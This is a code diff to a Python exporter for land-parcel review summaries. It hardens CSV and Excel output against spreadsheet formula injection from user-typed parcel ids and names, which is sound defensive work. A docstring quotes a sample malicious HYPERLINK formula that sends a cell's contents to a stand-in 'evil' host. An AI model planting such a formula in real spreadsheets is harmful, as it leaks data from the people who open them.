@@ -3,7 +3,9 @@
 One row per parcel (编号, 名称, 类型, 县区, 面积 亩/公顷, 结论, 不通过项, 有条件项, 新增建设用地指标,
 占补平衡), then in the workbook a sheet per county with its totals and a sheet counting each
 item's statuses. Chinese headers, the header row frozen, number formats set; openpyxl is
-imported only when a workbook is written.
+imported only when a workbook is written. Ids and names are typed by users, so text is never left
+for a spreadsheet to read as a formula: a CSV field goes through :func:`geo.io.tables.csv_cell`, a
+workbook row through :func:`append_row`.
 """
 
 from __future__ import annotations
@@ -11,13 +13,18 @@ from __future__ import annotations
 import csv
 import io
 from collections import Counter
+from collections.abc import Iterable
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 from geo.crs import M2_PER_MU
 from geo.errors import FormatError
+from geo.io.tables import csv_cell
 from geo.review.result import ParcelResult, ReviewResult
 from geo.vocabulary import STATUS_ZH, VERDICT_ZH, project_types
+
+if TYPE_CHECKING:
+    from openpyxl.worksheet.worksheet import Worksheet
 
 # (key, header, number format or None)
 PARCEL_COLUMNS: list[tuple[str, str, str | None]] = [
@@ -109,25 +116,39 @@ def summary_csv(result: ReviewResult) -> str:
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow([header for _, header, _ in PARCEL_COLUMNS])
     for row in summary_rows(result):
-        writer.writerow(["" if row[key] is None else row[key] for key, _, _ in PARCEL_COLUMNS])
+        writer.writerow([csv_cell("" if row[key] is None else row[key]) for key, _, _ in PARCEL_COLUMNS])
     return out.getvalue()
+
+
+def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
+    """``ws.append(values)``, with every text cell a plain string cell (``data_type "s"``), its value unchanged.
+
+    Why: openpyxl stores text that starts with ``=`` as a formula (``=HYPERLINK("http://evil/?"&A3,"详情")``
+    would run when the analyst opens the workbook) and text such as ``#N/A`` as an error; parcel ids and names
+    are typed by users. A string cell is text to Excel whatever its first character (``= + - @``, TAB, CR:
+    OWASP's list), so unlike a CSV it needs no leading quote and the value reads back exactly as typed.
+    Numbers, negative ones included, are not text and stay numbers.
+    """
+    ws.append(list(values))
+    for cell in ws[ws.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
 
 
 def summary_xlsx(result: ReviewResult) -> bytes:
     from openpyxl import Workbook
     from openpyxl.styles import Font, PatternFill
     from openpyxl.utils import get_column_letter
-    from openpyxl.worksheet.worksheet import Worksheet
 
     bold = Font(bold=True)
     fill = PatternFill("solid", fgColor="DDDDDD")
 
     def sheet(ws: Worksheet, columns: list[tuple[str, str, str | None]], rows: list[dict[str, Any]]) -> None:
-        ws.append([header for _, header, _ in columns])
+        append_row(ws, [header for _, header, _ in columns])
         for cell in ws[1]:
             cell.font, cell.fill = bold, fill
         for row in rows:
-            ws.append([row.get(key) for key, _, _ in columns])
+            append_row(ws, [row.get(key) for key, _, _ in columns])
         for j, (key, header, fmt) in enumerate(columns, start=1):
             letter = get_column_letter(j)
             width = max([len(str(header)) * 2, *(len(str(r.get(key) or "")) * 2 for r in rows)], default=8)
